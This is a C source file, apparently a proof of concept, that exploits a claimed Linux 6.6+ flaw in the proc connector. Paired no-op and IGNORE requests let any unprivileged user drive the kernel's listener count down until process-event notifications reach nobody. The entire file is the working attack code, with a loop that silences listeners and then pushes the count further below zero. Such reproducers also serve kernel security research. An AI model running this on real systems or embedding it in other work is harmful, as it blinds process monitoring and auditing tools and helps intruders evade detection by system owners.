// SPDX-License-Identifier: MIT
/*
 * deafen DEPTH: lower the kernel's count of listeners to process events until nobody is heard any more, and then so
 * many times again. From Linux 6.6 on any user can: an operation that is none counts for nothing, an IGNORE after it
 * counts as one less.
 */
#define _GNU_SOURCE
#include <err.h>
#include <linux/cn_proc.h>
#include <linux/connector.h>
#include <linux/netlink.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum { NO_OPERATION = 0, ASKED = 0x1dea, MOST = 1 << 20 };

static int open_socket(void) {
    int fd = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_CONNECTOR);
    if (fd < 0)
        err(99, "socket");
    return fd;
}

static void request(int fd, unsigned int operation) {
    struct {
        struct nlmsghdr header;
        struct cn_msg message;
        unsigned int operation;
    } __attribute__((packed)) request;
    memset(&request, 0, sizeof request);
    request.header.nlmsg_len = sizeof request;
    request.header.nlmsg_type = NLMSG_DONE;
    request.message.id.idx = CN_IDX_PROC;
    request.message.id.val = CN_VAL_PROC;
    request.message.ack = ASKED;
    request.message.len = sizeof request.operation;
    request.operation = operation;
    if (send(fd, &request, sizeof request, 0) < 0)
        err(99, "send");
}

static void lower(void) {
    int fd = open_socket();
    request(fd, NO_OPERATION);
    request(fd, PROC_CN_MCAST_IGNORE);
    close(fd);
}

/* Whether the kernel answers: it does as long as it counts a listener. */
static int is_anybody_heard(void) {
    struct {
        struct nlmsghdr header;
        struct cn_msg message;
        char event[40];
    } __attribute__((packed)) answer;
    struct sockaddr_nl address = {.nl_family = AF_NETLINK, .nl_groups = CN_IDX_PROC};
    int heard = 0;
    int fd = open_socket();
    if (bind(fd, (struct sockaddr *)&address, sizeof address) < 0)
        err(99, "bind");
    request(fd, NO_OPERATION);
    while (recv(fd, &answer, sizeof answer, MSG_DONTWAIT) > 0)
        heard |= answer.message.ack == ASKED + 1;
    close(fd);
    return heard;
}

int main(int argc, char **argv) {
    for (int n = 0; is_anybody_heard(); n++) {
        if (n == MOST)
            errx(99, "somebody else goes on to be heard");
        lower();
    }
    for (int n = argc > 1 ? atoi(argv[1]) : 0; n > 0; n--)
        lower();
    return 0;
}
